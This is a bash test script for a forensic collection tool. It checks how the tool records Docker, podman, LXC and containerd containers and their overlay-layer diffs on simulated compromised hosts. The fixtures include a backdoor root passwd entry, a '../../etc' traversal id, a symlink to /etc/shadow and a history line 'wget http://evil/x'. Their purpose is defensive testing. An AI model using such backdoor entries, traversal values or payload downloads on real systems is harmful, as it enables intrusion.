#!/bin/bash
# Copyright 2026 csirt-collect developers
# SPDX-License-Identifier: Apache-2.0
#
# Containers without their CLIs (issue 19): a fixture root with a docker
# data root (a container's config.v2.json, hostconfig.json and json log,
# its overlay2 writable layer holding an added file, a changed file, a
# whiteout and a symlink pointing out of the layer, the lower layer it
# names through an l/ link, a second container whose config is cut
# short), a podman containers.json with its layer and an LXC config;
# run dead-box, the records, the docker diff, the bodyfile (mactime -b),
# the copies' hashes and the caps are checked. Live: an overlay mount
# made in a private mount namespace, a containerd task (OCI spec, its
# rootfs an overlay) on a tmpfs over that namespace's /run, and a process
# moved into a fake docker cgroup, with the agent under strace (no
# program run).
. "$(dirname "$0")/lib.sh"

for c in jq zstd mactime python3 sha256sum; do
	command -v $c >/dev/null || { skip "$c missing"; exit 0; }
done

ID=$(printf 'c0ffee%.0s' $(seq 10))c0ffeec0
ID=${ID:0:64}
BAD=$(printf 'bad0%.0s' $(seq 16))
MID=9f1e2d3c4b5a69788796a5b4c3d2e1f09f1e2d3c4b5a69788796a5b4c3d2e1f0
LOW=1111111111111111111111111111111111111111111111111111111111111111
PID_=$(printf 'abcd%.0s' $(seq 16))
PLAYER=2222222222222222222222222222222222222222222222222222222222222222

R=$T/root
make_fixture "$R"
D=$R/var/lib/docker
mkdir -p "$D/containers/$ID" "$D/containers/$BAD" \
	"$D/image/overlay2/layerdb/mounts/$ID" "$D/overlay2/l" \
	"$D/overlay2/$MID/diff/etc" "$D/overlay2/$MID/diff/tmp/.x" \
	"$D/overlay2/$MID/diff/usr/bin" "$D/overlay2/$MID/diff/root" \
	"$D/overlay2/$LOW/diff/etc" "$D/overlay2/$LOW/diff/usr/bin"
cat >"$D/containers/$ID/config.v2.json" <<JSON
{"ID":"$ID","Name":"/evil_box","Created":"2026-11-30T10:00:00.123Z",
 "Image":"sha256:5d5d","Path":"/bin/sh","Args":["-c","sleep 1d"],
 "Driver":"overlay2","State":{"Running":true,"Pid":4242,
 "StartedAt":"2026-11-30T10:00:01Z"},
 "Config":{"Image":"alpine:3.19","Hostname":"evilhost","User":"root",
 "Env":["SECRET=never-in-the-record"]},
 "MountPoints":{"/data":{"Source":"/srv/data","Destination":"/data",
 "RW":true,"Type":"bind"}}}
JSON
printf '{"Privileged":true,"CapAdd":["SYS_ADMIN","NET_ADMIN"],"NetworkMode":"host","PidMode":"host","Binds":["/:/host"]}' \
	>"$D/containers/$ID/hostconfig.json"
printf '{"log":"pwned\\n","stream":"stdout","time":"2026-11-30T10:00:02Z"}\n' \
	>"$D/containers/$ID/$ID-json.log"
# Cut short: not JSON, reported, the run goes on.
printf '{"ID":"%s","Name":"/half","Conf' "$BAD" >"$D/containers/$BAD/config.v2.json"
printf '{"Repositories":{"alpine":{"alpine:3.19":"sha256:5d5d"}}}' \
	>"$D/image/overlay2/repositories.json"
printf '%s' "$MID" >"$D/image/overlay2/layerdb/mounts/$ID/mount-id"
printf 'l/LOWSHORT' >"$D/overlay2/$MID/lower"
ln -s "../$LOW/diff" "$D/overlay2/l/LOWSHORT"
# The lower layer: the image's passwd and wget.
printf 'root:x:0:0::/root:/bin/sh\n' >"$D/overlay2/$LOW/diff/etc/passwd"
printf 'ELF wget\n' >"$D/overlay2/$LOW/diff/usr/bin/wget"
# The writable layer: passwd changed, a dropper added, wget deleted,
# a link out of the layer (never followed).
U=$D/overlay2/$MID/diff
printf 'root:x:0:0::/root:/bin/sh\nevil:x:0:0::/:/bin/sh\n' >"$U/etc/passwd"
head -c 5000 /dev/urandom >"$U/tmp/.x/run"
touch -m -d '2024-05-05 05:05:05 UTC' "$U/tmp/.x/run"
mknod "$U/usr/bin/wget" c 0 0
: >"$U/etc/.wh.motd"		# the image tarball form of a whiteout
ln -s /etc/shadow "$U/root/escape"
printf 'host secret\n' >"$R/etc/shadow"
RUN_SHA=$(sha256sum "$U/tmp/.x/run" | cut -d' ' -f1)
PW_SHA=$(sha256sum "$U/etc/passwd" | cut -d' ' -f1)
# Hostile: a container whose layer is a symlink to the root's /etc and
# whose lower link points out of the store: neither is followed.
EVIL=$(printf 'e0%.0s' $(seq 32))
EMID=$(printf 'ee%.0s' $(seq 32))
mkdir -p "$D/containers/$EVIL" "$D/image/overlay2/layerdb/mounts/$EVIL" "$D/overlay2/$EMID"
printf '{"ID":"%s","Name":"/linked","Driver":"overlay2"}' "$EVIL" >"$D/containers/$EVIL/config.v2.json"
printf '%s\n' "$EMID" >"$D/image/overlay2/layerdb/mounts/$EVIL/mount-id"
ln -s /etc "$D/overlay2/$EMID/diff"
printf 'l/EVILLINK' >"$D/overlay2/$EMID/lower"
ln -s /etc "$D/overlay2/l/EVILLINK"
# podman
P=$R/var/lib/containers/storage
mkdir -p "$P/overlay-containers" "$P/overlay/$PLAYER/diff/root"
printf '[{"id":"%s","names":["web"],"image":"3333","layer":"%s","metadata":"{\\"image-name\\":\\"docker.io/library/nginx:latest\\",\\"name\\":\\"web\\"}","created":"2026-11-29T08:00:00Z"},{"id":"../../etc","layer":"x"}]' \
	"$PID_" "$PLAYER" >"$P/overlay-containers/containers.json"
printf 'wget http://evil/x\n' >"$P/overlay/$PLAYER/diff/root/.ash_history"
# LXC
mkdir -p "$R/var/lib/lxc/web1"
printf '# LXC\nlxc.uts.name = web1host\nlxc.rootfs.path = dir:/var/lib/lxc/web1/rootfs\nlxc.net.0.type = veth\nlxc.cap.drop = sys_module\n' \
	>"$R/var/lib/lxc/web1/config"

# run OUT ARGS...: the agent, its archive extracted into OUT/x.
run() {
	out=$1; shift
	mkdir -p "$out/o" "$out/x"
	"$CC_BIN" run --output "$out/o" --no-yara -q "$@" >"$out/stdout" 2>"$out/stderr"
	echo $? >"$out/rc"
	a=$(archive_in "$out/o")
	[ -n "$a" ] && zstd -dc "$a" | tar -x -C "$out/x"
}
run "$T/d" --root "$R"
X=$T/d/x
C=$X/live/containers.jsonl
check "dead-box run exits 0" test "$(cat "$T/d/rc")" = 0
check "docker record: name, image, state, pid, command, mount, driver" \
	jqe --arg id "$ID" -s 'any(.[]; .id==$id and .runtime=="docker" and
	.name=="evil_box" and .image=="alpine:3.19" and
	.image_id=="sha256:5d5d" and .running==true and .pid==4242 and
	.created=="2026-11-30T10:00:00.123Z" and .hostname=="evilhost" and
	.command==["/bin/sh","-c","sleep 1d"] and .driver=="overlay2" and
	.mounts[0].source=="/srv/data" and .mounts[0].destination=="/data")' "$C"
check "docker record: hostconfig privileged, cap_add, network and pid mode" \
	jqe --arg id "$ID" -s 'any(.[]; .id==$id and .privileged==true and
	.cap_add==["SYS_ADMIN","NET_ADMIN"] and .network_mode=="host" and
	.pid_mode=="host" and .binds==["/:/host"])' "$C"
check "docker record: the environment is not copied into it" \
	sh -c "test -s '$C' && ! grep -q never-in-the-record '$C'"
check "docker record: upperdir from layerdb mount-id, lowerdir through l/" \
	jqe --arg id "$ID" --arg u "/var/lib/docker/overlay2/$MID/diff" \
	--arg l "/var/lib/docker/overlay2/$LOW/diff" -s 'any(.[]; .id==$id and
	.upperdir==$u and .lowerdir==[$l] and .diff_added>=1 and
	.diff_changed>=1 and .diff_deleted==2 and .upper_truncated==false)' "$C"
check "the truncated config.v2.json: an error in the manifest, no record" \
	jqe --arg b "$BAD" 'any(.errors[]; (.path|endswith($b+"/config.v2.json"))
	and (.error|test("malformed|truncated")))' "$X/manifest.json"
check "no record for the truncated container" \
	sh -c "test -s '$C' && ! grep -q '$BAD' '$C'"
check "hostile layer: a symlinked upperdir is not walked, the outside link not used" \
	jqe -s --arg id "$EVIL" 'any(.[]; .id==$id and .name=="linked" and
	.lowerdir==[] and (has("upper_entries")|not))' "$C"
check "hostile layer: nothing archived for it, the link reported" \
	sh -c "test ! -e '$X/containers/$EVIL' && jq -e 'any(.errors[]; .error|test(\"EVILLINK: unexpected target\"))' '$X/manifest.json' >/dev/null"
check "podman record: name, image, layer as upperdir; unsafe id left out" \
	jqe -s --arg id "$PID_" --arg u "/var/lib/containers/storage/overlay/$PLAYER/diff" \
	'any(.[]; .id==$id and .runtime=="podman" and .name=="web" and
	.image=="docker.io/library/nginx:latest" and .upperdir==$u and
	.diff_added==2) and all(.[]; .id != "../../etc")' "$C"
check "LXC record: hostname, rootfs, nets, cap_drop, privileged" \
	jqe -s 'any(.[]; .runtime=="lxc" and .id=="web1" and .hostname=="web1host"
	and .rootfs=="dir:/var/lib/lxc/web1/rootfs" and .nets==["veth"] and
	.cap_drop==["sys_module"] and .privileged==true)' "$C"
check "dead-box: no pids" jqe -s 'all(.[]; .pids==[])' "$C"

DF=$X/containers/$ID/diff.jsonl
check "diff: C /etc/passwd (in the lower layer), copied with its sha256" \
	jqe --arg s "$PW_SHA" -s 'any(.[]; .change=="C" and .path=="/etc/passwd"
	and .type=="file" and .copied==true and .sha256==$s)' "$DF"
check "diff: A /tmp/.x/run, copied" \
	jqe --arg s "$RUN_SHA" -s 'any(.[]; .change=="A" and .path=="/tmp/.x/run"
	and .sha256==$s)' "$DF"
check "diff: D /usr/bin/wget (whiteout)" \
	jqe -s 'any(.[]; .change=="D" and .path=="/usr/bin/wget" and .type=="whiteout")' "$DF"
check "diff: D /etc/motd from a .wh.motd file, not copied" \
	jqe -s 'any(.[]; .change=="D" and .path=="/etc/motd" and
	.type=="whiteout" and (has("copied")|not))' "$DF"
check "diff: C /usr/bin and /etc directories, A /tmp/.x" \
	jqe -s 'any(.[]; .change=="C" and .path=="/usr/bin" and .type=="dir")
	and any(.[]; .change=="A" and .path=="/tmp/.x")' "$DF"
check "diff: the symlink out of the layer is recorded, never followed" \
	jqe -s 'any(.[]; .path=="/root/escape" and .type=="symlink" and
	.link_target=="/etc/shadow" and (has("copied")|not))' "$DF"
check "the link's target is not in the archive under the container" \
	sh -c "test -d '$X/containers/$ID/upper/tmp' && ! grep -rq 'host secret' '$X/containers' && ! jq -e 'any(.entries[]; .path|endswith(\"/root/escape\"))' '$X/manifest.json' >/dev/null"
check "the copy of /tmp/.x/run: sha256 = sha256sum" \
	test "$(sha256sum "$X/containers/$ID/upper/tmp/.x/run" | cut -d' ' -f1)" = "$RUN_SHA"
check "the copy in the manifest: hash and source" \
	jqe --arg p "containers/$ID/upper/tmp/.x/run" --arg s "$RUN_SHA" \
	--arg src "/var/lib/docker/overlay2/$MID/diff/tmp/.x/run" \
	'any(.entries[]; .path==$p and .sha256==$s and .source==$src)' "$X/manifest.json"
BF=$X/containers/$ID/upperdir.bodyfile
check "bodyfile: one line per layer entry" \
	test "$(wc -l <"$BF")" = "$(jq -s length "$DF")"
mactime -b "$BF" -d -z UTC >"$T/mactime" 2>"$T/mactime.err"
check "bodyfile: mactime -b reads it (the dropper and the whiteout)" \
	sh -c "grep -q '^Sun May 05 2024 05:05:05,5000,m...,-rw-r--r--,0,0,[0-9]*,\"/tmp/.x/run\"$' '$T/mactime' && grep -q ',\"/usr/bin/wget\"$' '$T/mactime' && ! test -s '$T/mactime.err'"
check "artefacts: docker config, hostconfig and repositories.json copied" \
	test -f "$X/files/var/lib/docker/containers/$ID/config.v2.json" -a \
	-f "$X/files/var/lib/docker/containers/$ID/hostconfig.json" -a \
	-f "$X/files/var/lib/docker/image/overlay2/repositories.json" -a \
	-f "$X/files/var/lib/lxc/web1/config" -a \
	-f "$X/files/var/lib/containers/storage/overlay-containers/containers.json"
check "triage leaves the container logs out" \
	test -f "$X/files/var/lib/docker/containers/$ID/config.v2.json" -a \
	! -e "$X/files/var/lib/docker/containers/$ID/$ID-json.log"

# The caps: one file per container, then the copy stops and says so.
printf '[limits]\ncontainer_upper_files = 1\n' >"$T/cap.ini"
run "$T/c" --root "$R" -c "$T/cap.ini" -p LinuxDockerContainerLogs
X=$T/c/x
check "capped run exits 0" test "$(cat "$T/c/rc")" = 0
check "capped: upper_truncated, one file copied" \
	jqe --arg id "$ID" -s 'any(.[]; .id==$id and .upper_truncated==true and
	.upper_files_copied==1 and .upper_not_copied==1)' "$X/live/containers.jsonl"
check "capped: the diff still lists every entry, one not copied" \
	jqe -s 'any(.[]; .copied==false) and any(.[]; .change=="D")' \
	"$X/containers/$ID/diff.jsonl"
check "capped: collection.log says the copy was cut" \
	grep -q "cut at" "$X/collection.log"
check "LinuxDockerContainerLogs: the json log collected" \
	test -f "$X/files/var/lib/docker/containers/$ID/$ID-json.log"

# --- Live: an overlay mount (private mount namespace) and a process in a
# fake docker cgroup; the agent runs in that namespace, under strace.
if ! unshare -m true 2>/dev/null; then
	skip "live: no mount namespace (unshare -m) here"
	exit 0
fi
HID=$(head -c 32 /dev/urandom | od -An -tx1 | tr -d ' \n')
if [ -f /sys/fs/cgroup/cgroup.controllers ]; then CG=/sys/fs/cgroup
else CG=/sys/fs/cgroup/pids; fi
SLEEP=""
if mkdir -p "$CG/docker/$HID" 2>/dev/null; then
	at_exit "rmdir '$CG/docker/$HID' 2>/dev/null; rmdir '$CG/docker' 2>/dev/null"
	sleep 300 & SLEEP=$!
	at_exit "kill $SLEEP 2>/dev/null; wait $SLEEP 2>/dev/null"
	echo "$SLEEP" >"$CG/docker/$HID/cgroup.procs" 2>/dev/null || SLEEP=""
fi
O=$T/ov
CID=$(head -c 8 /dev/urandom | od -An -tx1 | tr -d ' \n')
mkdir -p "$O" "$T/l"
TRACE=""
strace -f -o /dev/null true 2>/dev/null && TRACE="env $NOLEAK_ENV strace -f -qq -e trace=execve -o $T/trace"
cat >"$T/live.sh" <<SH
set -e
mount -t tmpfs cc-ov "$O"
mkdir -p "$O/l/etc" "$O/u" "$O/w" "$O/m"
printf 'a=1\n' >"$O/l/etc/conf"
printf 'gone\n' >"$O/l/gone"
mount -t overlay overlay -o "lowerdir=$O/l,upperdir=$O/u,workdir=$O/w" "$O/m"
printf 'a=2\n' >"$O/m/etc/conf"
printf 'new\n' >"$O/m/new"
rm "$O/m/gone"
# A containerd task: its OCI spec, its rootfs an overlay (a tmpfs over
# /run, in this mount namespace only).
mount -t tmpfs cc-run /run
TD=/run/containerd/io.containerd.runtime.v2.task/k8s.io/$CID
mkdir -p "\$TD/rootfs" "$O/cl" "$O/cu/var" "$O/cw"
printf '{"process":{"args":["nginx","-g","daemon off;"],"cwd":"/","capabilities":{"bounding":["CAP_CHOWN"]}},"root":{"path":"rootfs"},"hostname":"pod-a","linux":{"namespaces":[{"type":"pid"},{"type":"mount"}]}}' >"\$TD/config.json"
printf 'implant\n' >"$O/cu/var/implant"
mount -t overlay overlay -o "lowerdir=$O/cl,upperdir=$O/cu,workdir=$O/cw" "\$TD/rootfs"
mkdir -p "$T/l/o" "$T/l/x"
$TRACE "$CC_BIN" run --output "$T/l/o" --no-yara -q -p LinuxCronFiles \
	>"$T/l/stdout" 2>"$T/l/stderr" || echo \$? >"$T/l/rc"
SH
if ! unshare -m sh "$T/live.sh" 2>"$T/live.err"; then
	skip "live: the overlay could not be mounted: $(head -c 200 "$T/live.err")"
	exit 0
fi
check "live run exits 0" test ! -e "$T/l/rc"
a=$(archive_in "$T/l/o")
[ -n "$a" ] && zstd -dc "$a" | tar -x -C "$T/l/x"
C=$T/l/x/live/containers.jsonl
OV=$(jq -r --arg m "$O/m" 'select(.mount_point==$m) | .id' "$C" 2>/dev/null | head -n 1)
check "live: the overlay mount found in mountinfo, its upper and lower" \
	jqe -s --arg m "$O/m" --arg u "$O/u" --arg l "$O/l" 'any(.[];
	.runtime=="overlay" and .mount_point==$m and .upperdir==$u and
	.lowerdir==[$l] and .diff_added==1 and .diff_deleted==1)' "$C"
check "live: its diff: C /etc/conf, A /new, D /gone" \
	jqe -s 'any(.[]; .change=="C" and .path=="/etc/conf" and .copied)
	and any(.[]; .change=="A" and .path=="/new")
	and any(.[]; .change=="D" and .path=="/gone")' "$T/l/x/containers/$OV/diff.jsonl"
check "live: the copy of /etc/conf holds the upper version" \
	test "$(cat "$T/l/x/containers/$OV/upper/etc/conf" 2>/dev/null)" = "a=2"
check "live: the containerd task from its OCI spec, its rootfs overlay walked" \
	jqe -s --arg id "$CID" --arg u "$O/cu" 'any(.[]; .runtime=="containerd"
	and .id==$id and .namespace=="k8s.io" and .hostname=="pod-a" and
	.command==["nginx","-g","daemon off;"] and .privileged==false and
	.namespaces==["pid","mount"] and .upperdir==$u and .diff_added==2)' "$C"
check "live: the task's implant copied" \
	test "$(cat "$T/l/x/containers/$CID/upper/var/implant" 2>/dev/null)" = implant
if [ -n "$SLEEP" ]; then
	check "live: the process in the docker cgroup mapped to its id" \
		jqe -s --arg id "$HID" --argjson p "$SLEEP" 'any(.[];
		.runtime=="docker" and .id==$id and .source=="cgroup" and
		.pids==[$p])' "$C"
else
	skip "live: no writable cgroup here, no process in a fake container"
fi
if [ -n "$TRACE" ]; then
	n=$(grep -c 'execve(' "$T/trace")
	check "under strace, the agent ran no program (1 execve: itself; saw $n)" \
		test "$n" -eq 1
else
	skip "ptrace not allowed: the execve count was not checked"
fi
